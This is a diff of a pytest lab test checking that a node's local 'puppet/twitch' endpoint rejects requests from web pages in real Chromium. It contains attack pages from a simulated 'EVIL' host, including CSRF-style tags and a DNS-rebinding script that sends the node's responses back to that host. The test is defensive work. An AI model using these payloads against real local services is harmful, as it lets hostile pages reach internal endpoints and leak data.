@@ -1,9 +1,10 @@
-"""A page in somebody's browser starts no run, whatever it tries: real Chromium, from another machine's
-address, since browsers trust loopback more."""
+"""A web page cannot start a run from a browser, whatever it tries.
+
+The browser is real Chromium at another machine's address, because browsers trust loopback more.
+"""
 
 from __future__ import annotations
 
-from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import unquote
 
@@ -18,8 +19,8 @@ from tests.lab.network import Netns
 EVIL, EVIL6, VICTIM = "10.77.0.60", "fd77::60", "10.77.0.61"
 PORT = 8000
 
-# Each says `done` when the browser has an answer, or has given up on one.
-DONE = f"fetch('http://{EVIL}:{PORT}/said/done', {{mode: 'no-cors'}})"
+# Each page requests /report/done when the browser has an answer, or has given up.
+DONE = f"fetch('http://{EVIL}:{PORT}/report/done', {{mode: 'no-cors'}})"
 PAGES = {
     "img": f'<img src="URL" onload="{DONE}" onerror="{DONE}">',
     "img-no-referrer": f'<img src="URL" referrerpolicy="no-referrer" onload="{DONE}" onerror="{DONE}">',
@@ -42,14 +43,6 @@ PAGES = {
 }
 
 
-@pytest.fixture
-def tidy(node12: Machine) -> Iterator[Machine]:
-    stub.clear(node12)
-    stub.stub_puppet(node12)
-    yield node12
-    stub.clear(node12)
-
-
 @pytest.fixture(scope="session")
 def evil(lab: Lab) -> Netns:
     return lab.client(EVIL, EVIL6)
@@ -58,43 +51,43 @@ def evil(lab: Lab) -> Netns:
 @pytest.fixture(scope="session")
 def victim(lab: Lab) -> Netns:
     netns = lab.client(VICTIM, "fd77::61")
-    # Chromium uses IPv6 only where it looks as if it led somewhere.
+    # Chromium uses IPv6 only if there is a default route.
     netns.run("ip", "-6", "route", "add", "default", "via", "fd77::1")
     return netns
 
 
 @pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
-def test_no_page_starts_a_run(tidy: Machine, evil: Netns, victim: Netns, page: str) -> None:
-    # The same address may, with curl: what is refused is the browser.
-    before, place = access.questions(tidy), access.now(tidy)
+def test_web_page_starts_no_run(stub_node12: Machine, evil: Netns, victim: Netns, page: str) -> None:
+    before, cursor = access.handlers_started(stub_node12), access.journal_cursor(stub_node12)
     site = Site(evil, EVIL, PORT)
     site.page = f"<!doctype html><body>{page}</body>".replace(
-        "URL", f"http://{tidy.address}:2023/puppet/twitch"
+        "URL", f"http://{stub_node12.address}:2023/puppet/twitch"
     )
     try:
         with chromium(victim, f"http://{EVIL}:{PORT}/"):
-            if "said" in page:
-                site.said.get(timeout=60)
-                tidy.run("systemctl", "stop", "puppet-twitch.service")  # which writes it down at once
-            access.heard_refusing(tidy, place, VICTIM)
+            if "report" in page:
+                site.reports.get(timeout=60)
+                stub_node12.run("systemctl", "stop", "puppet-twitch.service")  # which logs refusals at once
+            access.await_refusal(stub_node12, cursor, VICTIM)
     finally:
         site.close()
-    assert access.questions(tidy) == before
-    assert stub.stub_log(tidy) == []
-    assert access.remote(victim, f"http://{tidy.address}:2023/puppet/twitch").status == 202
+    assert access.handlers_started(stub_node12) == before
+    assert stub.stub_log(stub_node12) == []
+    # curl may, from the same address.
+    assert access.remote(victim, f"http://{stub_node12.address}:2023/puppet/twitch").status == 202
 
 
 REBOUND = """\
 <!doctype html><script>
-const tell = said => fetch('http://EVIL:8000/said/' + encodeURIComponent(said), {mode: 'no-cors'});
+const report = text => fetch('http://EVIL:8000/report/' + encodeURIComponent(text), {mode: 'no-cors'});
 const attempts = [
   {}, {method: 'POST'}, {referrerPolicy: 'no-referrer'}, {method: 'POST', referrerPolicy: 'no-referrer'},
   {headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, referrerPolicy: 'no-referrer'},
   {method: 'POST', headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, referrerPolicy: 'no-referrer'},
 ];
 (async () => {
-  await tell('loaded');
-  for (;;) {  // until the site of this name is another one
+  await report('loaded');
+  for (;;) {  // until the name leads to the node
     try {
       if ((await (await fetch('/info')).text()).startsWith('Puppet Twitch')) break;
     } catch {}
@@ -105,30 +98,30 @@ const attempts = [
     const answer = await fetch('/puppet/twitch', attempt);
     answers.push(answer.status + ' ' + await answer.text());
   }
-  await tell('answers ' + answers.join('|'));
+  await report('answers ' + answers.join('|'));
 })();
 </script>
 """
 
 
-def test_a_name_that_becomes_the_nodes_starts_no_run(
-    tidy: Machine, evil: Netns, victim: Netns, tmp_path: Path
+def test_dns_rebinding_starts_no_run(
+    stub_node12: Machine, evil: Netns, victim: Netns, tmp_path: Path
 ) -> None:
-    # A name with two addresses: when the site goes from the first, the browser tries the second.
+    # The name has two addresses: when the site stops at the first, the browser tries the second.
     hosts = tmp_path / "hosts"
-    hosts.write_text(f"127.0.0.1 localhost\n{EVIL6} rebound.test\n{tidy.address} rebound.test\n")
+    hosts.write_text(f"127.0.0.1 localhost\n{EVIL6} rebound.test\n{stub_node12.address} rebound.test\n")
     prefix = ("unshare", "--mount", "sh", "-c", f'mount --bind {hosts} /etc/hosts && exec "$@"', "sh")
-    before = access.questions(tidy)
-    heard = Site(evil, EVIL, PORT)
+    before = access.handlers_started(stub_node12)
+    other_site = Site(evil, EVIL, PORT)
     site = Site(evil, EVIL6, 2023)
     site.page = REBOUND.replace("EVIL", EVIL)
     try:
         with chromium(victim, "http://rebound.test:2023/", prefix=prefix):
-            assert heard.said.get(timeout=60) == "loaded"
+            assert other_site.reports.get(timeout=60) == "loaded"
             site.close()
-            said = unquote(heard.said.get(timeout=60))
+            answers = unquote(other_site.reports.get(timeout=60))
     finally:
-        heard.close()
-    assert said == "answers " + "|".join(["403 Not from a browser; use curl\n"] * 6)
-    assert access.questions(tidy) == before
-    assert stub.stub_log(tidy) == []
+        other_site.close()
+    assert answers == "answers " + "|".join(["403 Not from a browser; use curl\n"] * 6)
+    assert access.handlers_started(stub_node12) == before
+    assert stub.stub_log(stub_node12) == []
